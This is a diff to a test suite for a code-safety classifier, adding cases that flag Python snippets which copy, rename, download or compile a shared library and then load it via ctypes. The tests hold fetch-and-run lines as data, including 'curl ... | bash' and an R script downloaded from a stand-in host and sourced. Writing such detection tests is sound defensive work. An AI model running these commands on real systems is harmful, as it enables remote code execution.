@@ -197,6 +197,17 @@ describe("classifyCodeHeuristic: the classes the original missed", () => {
     unsafe('download.file("http://x.example/evil.R", "evil.R")\nsource("evil.R")', 6);
   });
 
+  for (const [label, place] of [
+    ["copied", 'shutil.copy(_ctypes.__file__, "evil.so")'],
+    ["renamed", 'os.rename("payload.bin", "evil.so")'],
+    ["fetched", 'urllib.request.urlretrieve(url, "evil.so")'],
+    ["compiled", 'subprocess.run(["gcc", "-shared", "-o", "evil.so", "e.c"])'],
+  ] as const) {
+    test(`a shared library ${label} into place and then loaded is UNSAFE category 6`, () => {
+      unsafe(`import ctypes, shutil, os, subprocess\n${place}\nctypes.CDLL("./evil.so")`, 6);
+    });
+  }
+
   test("curl piped into a shell is UNSAFE category 6", () => {
     unsafe('system("curl -s http://x.example/i.sh | bash")', 6);
   });
